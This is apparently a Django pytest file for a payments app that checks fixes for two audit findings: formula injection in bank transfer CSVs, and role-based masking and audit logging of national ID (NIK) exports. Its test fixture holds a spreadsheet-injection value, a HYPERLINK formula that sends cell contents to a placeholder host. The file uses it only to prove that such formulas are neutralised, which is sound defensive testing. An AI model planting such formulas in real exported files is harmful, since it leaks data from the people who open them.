"""Findings 10 and 14: formulas in spreadsheets, NIK/KPJ for every role in bulk, and no record of who took them."""

import csv
import datetime as dt
import io

from django.urls import reverse

from lapakasik.accounts.models import User
from lapakasik.collective.parse import write_csv
from lapakasik.payments.bankfiles import TRANSFER_MAPPERS, TransferLine, transfer_csv
from lapakasik.security.models import DownloadRecord

HOSTILE_NAME = '=HYPERLINK("http://x.example/?"&A1,"klik")'
LINE = TransferLine(
    reference="LA23456789AB",
    bank_code="002",
    account_number="0012010001234",
    holder_name=HOSTILE_NAME,
    amount=1_000_000,
    value_date=dt.date(2026, 11, 26),
    claim_number="KLM-ABCDEFGHJK",
)


def test_a_formula_holder_name_never_reaches_the_transfer_file_as_a_formula():
    for bank in ["standard", *TRANSFER_MAPPERS]:
        text = transfer_csv([LINE], bank=bank).decode()
        delimiter = ";" if ";" in text.splitlines()[0] else ","
        cells = [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), bank
        assert any(cell == "'" + HOSTILE_NAME for cell in cells) or any(
            HOSTILE_NAME[1:] in c for c in cells
        ), bank


def test_a_comma_inside_a_semicolon_separated_cell_is_quoted():
    text = write_csv(["Baris", "Kesalahan"], [[2, "NIK: salah, periksa lagi."]]).decode("utf-8-sig")
    assert '"NIK: salah, periksa lagi."' in text
    assert next(csv.reader(io.StringIO(text.splitlines()[1]), delimiter=";")) == [
        "2",
        "NIK: salah, periksa lagi.",
    ]


EXPORT = reverse("console:dashboard_export", args=["csv"]) + "?from=2020-03-01&to=2020-03-31"


def _niks(client) -> list[str]:
    response = client.get(EXPORT)
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows
    return [row["nik"] for row in rows]


def test_the_branch_head_gets_nik_masked_and_the_export_is_recorded(client, branch_head):
    client.force_login(branch_head)
    niks = _niks(client)
    assert all(nik.startswith("*" * 12) and nik[-4:].isdigit() for nik in niks)
    record = DownloadRecord.objects.get(actor=branch_head)
    assert record.kind == "claims_export" and record.file_format == "csv" and not record.identifiers
    assert record.branch == branch_head.branch


def test_finance_gets_full_nik_and_that_is_recorded(client, finance):
    client.force_login(finance)
    assert all(nik.isdigit() and len(nik) == 16 for nik in _niks(client))
    assert DownloadRecord.objects.get(actor=finance).identifiers


def test_the_branch_head_sees_who_downloaded_what_and_others_do_not(
    client, branch_head, finance, cso, outsider
):
    client.force_login(finance)
    _niks(client)
    client.force_login(branch_head)
    page = client.get(reverse("console:downloads"))
    assert page.status_code == 200 and b"keuangan" in page.content
    for other in (cso, finance):
        client.force_login(other)
        assert client.get(reverse("console:downloads")).status_code == 404
    head_elsewhere = User.objects.filter(role="branch_head").exclude(branch=branch_head.branch).first()
    if head_elsewhere:
        client.force_login(head_elsewhere)
        assert b"keuangan" not in client.get(reverse("console:downloads")).content
